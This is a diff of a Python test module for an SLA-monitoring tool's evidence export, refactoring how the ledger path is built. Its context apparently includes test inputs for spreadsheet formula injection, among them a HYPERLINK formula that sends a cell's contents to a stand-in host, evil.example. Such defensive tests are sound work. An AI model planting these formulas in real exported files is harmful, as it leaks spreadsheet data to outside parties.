@@ -23,6 +23,7 @@ from slawatch.config.policies import PolicyBook
 from slawatch.config.policy import Policy
 from tests.collector.evidence.test_export import members, verify
 from tests.collector.sla.conftest import INVENTORY, POLICY, District, camera, hour, write
+from tests.ledgers import ledger_in
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"查看")',
@@ -44,7 +45,7 @@ def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
     named = camera("C1", "SW1", 1).replace("name: 点位 C1", "name: '=1+1 点位'")
     inventory_file, policy_file = write(folder, INVENTORY + named, POLICY)
     district = District(["C1", "SW1", "SW2"], down={"C1": [(100, 102)]})
-    ledger = Ledger(folder / "ledger.sqlite")
+    ledger = Ledger(ledger_in(folder))
     replay(
         load_config(inventory_file, Inventory),
         PolicyBook.only(load_config(policy_file, Policy)),
@@ -62,7 +63,7 @@ def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
     ledger.close()
     out = folder / "bundle.zip"
     command = [
-        "evidence", "export", "--ledger", str(folder / "ledger.sqlite"),
+        "evidence", "export", "--ledger", ledger_in(folder),
         "--inventory", str(inventory_file), "--policy", str(policy_file),
         "--period", "2026-Q3", "--out", str(out),
     ]  # fmt: skip
